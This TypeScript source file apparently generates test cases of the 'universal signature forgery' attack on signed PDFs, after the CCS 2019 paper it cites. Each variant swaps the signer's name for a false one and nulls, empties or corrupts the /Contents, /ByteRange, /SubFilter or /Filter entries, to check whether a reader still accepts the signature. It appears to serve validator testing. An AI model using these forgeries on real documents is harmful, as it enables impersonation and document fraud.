import { inClear, original, FALSE_NAME, overwritten, TRUE_NAME } from './attack-tools.js';
import type { AttackTools, AttackVariant } from './attack-tools.js';
import { indexOf } from './pdf-signature.js';
import type { SignedPdf } from './pdf-signature.js';

type Key = 'Contents' | 'ByteRange';

/** Writes a key with its value over what stands there; the rest of the room is white space, and no offset changes. */
function replaced(bytes: Uint8Array, signed: SignedPdf, key: Key, written: string): Uint8Array<ArrayBuffer> {
  const [start, end] = key === 'Contents' ? signed.signature.contents : signed.signature.byteRangeAt;
  const from = start - key.length - 2;
  return overwritten(bytes, from, written.padEnd(end - from));
}

/** The name on the page is another, and no digest shall be compared: the dictionary says nothing that could be. */
const forged = (edit: (bytes: Uint8Array, signed: SignedPdf) => Uint8Array<ArrayBuffer>) => async (tools: AttackTools): Promise<Uint8Array<ArrayBuffer>> => {
  const signed = await original(inClear(tools), { size: 8192 });
  return edit(overwritten(signed.bytes, indexOf(signed.bytes, TRUE_NAME), FALSE_NAME), signed);
};

const CONTENTS: Readonly<Record<string, string>> = {
  'contents-missing': '', 'contents-without-value': '/Contents', 'contents-null': '/Contents null', 'contents-empty': '/Contents <>', 'contents-empty-string': '/Contents ()',
  'contents-zero': '/Contents 0x00', 'contents-zero-byte': '/Contents <00>', 'contents-zeros': `/Contents <${'00'.repeat(8192)}>`, 'contents-number': '/Contents 0', 'contents-name': '/Contents /None',
  'contents-array': '/Contents []', 'contents-dangling': '/Contents 999 0 R',
};

const BYTE_RANGE: Readonly<Record<string, string>> = {
  'byte-range-missing': '', 'byte-range-without-value': '/ByteRange', 'byte-range-null': '/ByteRange null', 'byte-range-empty': '/ByteRange []', 'byte-range-zeros': '/ByteRange [0 0 0 0]',
  'byte-range-zero': '/ByteRange 0', 'byte-range-hexadecimal-zero': '/ByteRange 0x00', 'byte-range-one': '/ByteRange [0]', 'byte-range-two': '/ByteRange [0 0]', 'byte-range-negative-length': '/ByteRange [0 -1 0 0]',
  'byte-range-all-negative': '/ByteRange [-1 -1 -1 -1]', 'byte-range-letters': '/ByteRange [a b c d]', 'byte-range-huge': '/ByteRange [0 9999999999 9999999999 0]', 'byte-range-dangling': '/ByteRange 999 0 R',
};

const fixedRange = (numbers: (signed: SignedPdf) => readonly number[]) => forged((bytes, signed) => replaced(bytes, signed, 'ByteRange', `/ByteRange [${numbers(signed).join(' ')}]`));

/** Other words of the dictionary, which send a reader astray before it verifies anything. */
const word = (from: string, to: string) => forged((bytes) => overwritten(bytes, indexOf(bytes, from), to.padEnd(from.length)));

const of = (variant: string, make: AttackVariant['make']): AttackVariant => ({ name: 'universal-signature-forgery', variant, make });

/** "1 Trillion Dollar Refund" (CCS 2019) section 4.1: nothing is left that could be verified, and a reader takes the signature for valid all the same. */
export const forgeries: readonly AttackVariant[] = [
  ...Object.entries(CONTENTS).map(([variant, token]) => of(variant, forged((bytes, signed) => replaced(bytes, signed, 'Contents', token)))),
  ...Object.entries(BYTE_RANGE).map(([variant, token]) => of(variant, forged((bytes, signed) => replaced(bytes, signed, 'ByteRange', token)))),
  of('byte-range-of-nothing', fixedRange(({ signature: { byteRange: [, , , d] }, bytes }) => [0, 0, bytes.length - d, 0])),
  of('byte-range-negative-gap', fixedRange(({ signature: { byteRange: [a, b, c, d] } }) => [a, b, -c, d])),
  of('byte-range-three', fixedRange(({ signature: { byteRange: [a, b, c] } }) => [a, b, c])),
  of('contents-and-byte-range-missing', forged((bytes, signed) => replaced(replaced(bytes, signed, 'ByteRange', ''), signed, 'Contents', ''))),
  of('contents-and-byte-range-null', forged((bytes, signed) => replaced(replaced(bytes, signed, 'ByteRange', '/ByteRange null'), signed, 'Contents', '/Contents null'))),
  of('contents-empty-and-byte-range-zeros', forged((bytes, signed) => replaced(replaced(bytes, signed, 'ByteRange', '/ByteRange [0 0 0 0]'), signed, 'Contents', '/Contents <>'))),
  of('sub-filter-missing', word('/SubFilter /ETSI.CAdES.detached', '')),
  of('sub-filter-null', word('/SubFilter /ETSI.CAdES.detached', '/SubFilter null')),
  of('sub-filter-unknown', word('/ETSI.CAdES.detached', '/None')),
  of('filter-missing', word('/Filter /Adobe.PPKLite', '')),
];
